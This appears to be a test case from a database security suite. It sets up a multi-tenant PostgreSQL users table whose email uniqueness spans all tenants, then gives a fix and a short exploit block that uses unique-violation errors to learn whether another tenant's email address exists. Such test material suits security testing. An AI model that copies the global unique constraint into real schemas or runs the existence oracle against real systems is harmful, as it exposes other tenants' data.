-- What: E-mail addresses are unique over all tenants.
-- Class: unique_oracle
-- Object: public.users
-- Exploit: INSERT of an address that another tenant has fails with 23505: its existence is known, its row is not.
-- @schema
create table users (id bigint generated always as identity primary key, tenant_id uuid not null, email text not null unique);
alter table users enable row level security;
alter table users force row level security;
create policy tenant on users using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on users to app_user;
-- @rows
insert into users (tenant_id, email) values (:'A', 'a@example.org'), (:'B', 'b@example.org');
-- @fix
alter table users drop constraint users_email_key;
alter table users add unique (tenant_id, email);
-- @control
select from users where tenant_id = :'A';
-- @exploit
do $$ begin
  insert into users (tenant_id, email) values ('aaaaaaaa-0000-4000-8000-000000000001', 'b@example.org');
exception when unique_violation then
  perform set_config('loot.text', 'taken', false);
end $$;
select 1 where current_setting('loot.text', true) = 'taken';
